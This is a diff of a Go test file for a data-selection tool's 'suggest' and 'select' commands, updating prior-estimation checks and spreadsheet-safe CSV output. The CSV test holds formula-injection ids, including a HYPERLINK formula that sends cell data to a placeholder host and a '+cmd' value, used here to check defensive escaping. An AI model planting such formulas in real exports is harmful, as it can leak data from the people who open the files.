@@ -52,8 +52,10 @@ func suggestRows(t *testing.T, out string) [][]string {
 	return recs[1:]
 }
 
-// TestASSuggestOwnCSVPool is issue 12 items 1, 2 and 4 end to end on files
-// written here: a CSV pool without labels, given by flags or by a config.
+// TestASSuggestOwnCSVPool runs suggest end to end on files written here: a
+// CSV pool without labels, given by flags or by a config; the prior comes
+// from the observed labels only, and cold-start ties fall in the seed's
+// order.
 func TestASSuggestOwnCSVPool(t *testing.T) {
 	dir := t.TempDir()
 	pool := asWriteFile(t, dir, "pool.csv", linePoolCSV(false))
@@ -68,10 +70,10 @@ func TestASSuggestOwnCSVPool(t *testing.T) {
 	if code != 0 {
 		t.Fatalf("exit %d: %s", code, stderr)
 	}
-	// The default prior, from 1 positive of 2 labels in 40 items:
-	// sqrt(2/42 x 2/4) = 0.1543.
-	a1 := math.Sqrt(2.0 / 42 * 2.0 / 4)
-	if want := fmt.Sprintf("prior a1 = %.4g: estimated from 2 observed label(s), 1 positive, in a pool of 40", a1); !strings.Contains(stderr, want) || !strings.Contains(stderr, "pool pool: 40 items, no labels") {
+	// The default prior (search.FitPrior) from 1 positive of 2 labels, both
+	// with no labelled neighbour: Laplace's rule, (1 + 1)/(2 + 2).
+	a1 := 0.5
+	if want := "prior a1 = 0.5: empirical Bayes from 2 observed label(s), 1 positive (2 with no labelled neighbour, 1 positive)"; !strings.Contains(stderr, want) || !strings.Contains(stderr, "pool pool: 40 items, no labels") {
 		t.Errorf("stderr %q does not say %q", stderr, want)
 	}
 	rows := suggestRows(t, out)
@@ -218,24 +220,26 @@ func TestREADMEOwnData(t *testing.T) {
 }
 
 // TestASPriorFlag: a campaign records the prior it used; estimate sets the
-// probability of an item far from the start to sqrt(2/(n+2) x 2/3).
+// probability of an item far from the start to 2/3 in the first batch
+// (search.FitPrior of one positive alone: Laplace's (1 + 1)/(1 + 2)).
 func TestASPriorFlag(t *testing.T) {
 	dir := t.TempDir()
 	cfg := asWriteFile(t, dir, "tiny.yaml", tinyASConfig)
 	out := filepath.Join(dir, "res")
 	code, _, stderr := runQVS(t, "as", "--config", cfg, "--out", out, "--cache-dir", filepath.Join(dir, "cache"),
 		"--methods", "random", "--repeats", "1", "--budget", "4", "--prior", "estimate")
-	a1 := math.Sqrt(2.0 / 302 * 2.0 / 3) // n = 300, the start as the one label
-	if code != 0 || !strings.Contains(stderr, fmt.Sprintf("prior a1 = %.4g: estimated from 1 observed label(s), 1 positive, in a pool of 300", a1)) {
+	a1 := 2.0 / 3
+	if code != 0 || !strings.Contains(stderr, "prior a1 = 0.6667 at the start (one positive): re-estimated before every batch") {
 		t.Fatalf("exit %d, stderr %q", code, stderr)
 	}
 	if b, _ := os.ReadFile(filepath.Join(out, "config.yaml")); !strings.Contains(string(b), "\nprior: estimate\n") {
 		t.Errorf("config.yaml does not record the prior:\n%s", b)
 	}
-	// Random queries far from the start have probability a1.
+	// Random queries of the first batch far from the start have
+	// probability a1.
 	far := 0
 	for _, rec := range readCSVFile(t, filepath.Join(out, "runs", "random-r00.csv"))[2:] {
-		if p, _ := strconv.ParseFloat(rec[5], 64); math.Abs(p-a1) < 1e-15 {
+		if p, _ := strconv.ParseFloat(rec[5], 64); rec[1] == "1" && math.Abs(p-a1) < 1e-15 {
 			far++
 		}
 	}
@@ -280,7 +284,7 @@ func TestASSuggestPoolErrorsNameFlags(t *testing.T) {
 	}
 }
 
-// TestSuggestIDsSpreadsheetSafe (issue 23, item 4): ids a spreadsheet runs
+// TestSuggestIDsSpreadsheetSafe: ids a spreadsheet runs
 // as formulas (=, +, -, @ first) came out of `as suggest --format csv`
 // verbatim; they now get a leading ' (numbers such as -5 stay numbers),
 // --raw-ids keeps them, and the output fed back as --observed names the
@@ -339,5 +343,14 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 	code, raw, _ := runQVS(t, append(args, "--observed", obs, "--raw-ids")...)
 	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
 		t.Errorf("--raw-ids: %s", raw)
+	}
+	// select writes its ids the same way.
+	emb := writeFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
+	code, sel, stderr := runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
+	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
+		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
+	}
+	if _, sel, _ = runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv", "--raw-ids"); !strings.Contains(sel, ",=1+1,") {
+		t.Errorf("select --raw-ids:\n%s", sel)
 	}
 }
